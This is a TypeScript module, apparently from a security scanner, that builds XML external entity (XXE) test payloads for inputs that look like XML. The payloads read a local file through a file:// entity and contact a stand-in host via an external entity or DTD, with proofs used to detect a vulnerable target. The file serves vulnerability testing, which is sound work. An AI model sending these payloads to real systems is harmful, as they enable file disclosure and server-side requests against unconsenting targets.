// Documents with external entities: in a file of the home directory, or on a host.

import { type InjectionKind, isNamed, says, single, vocabularyWords } from './injection-kind.ts';

const XML = vocabularyWords('xml svg rss atom feed soap xhtml wsdl sitemap plist opml gpx kml docx markup');
const CONTENTS = vocabularyWords('xml svg content text document data body input source feed markup payload string');

export const xxe: InjectionKind = {
	class: 'xxe',
	groups(target) {
		if (target.kind !== 'text' || !says(target, XML) || !(isNamed(target, CONTENTS) || isNamed(target, XML))) return [];
		const { outside } = target.places;
		return [
			single(92, () => ({
				variant: 'an entity in a file',
				value: `<?xml version="1.0"?>\n<!DOCTYPE note [<!ENTITY other SYSTEM "file://${outside}">]>\n<note>&other;</note>`,
				proofs: [{ kind: 'touched', path: outside }],
			})),
			single(91, ({ word }) => ({
				variant: 'an entity on a host',
				value: `<?xml version="1.0"?>\n<!DOCTYPE note [<!ENTITY other SYSTEM "http://${word}.site.example/other.txt">]>\n<note>&other;</note>`,
				proofs: [{ kind: 'contacted', host: `${word}.site.example` }],
			})),
			single(90, ({ word }) => ({
				variant: 'a document type on a host',
				value: `<?xml version="1.0"?>\n<!DOCTYPE note SYSTEM "http://${word}.site.example/note.dtd">\n<note>x</note>`,
				proofs: [{ kind: 'contacted', host: `${word}.site.example` }],
			})),
		];
	},
};
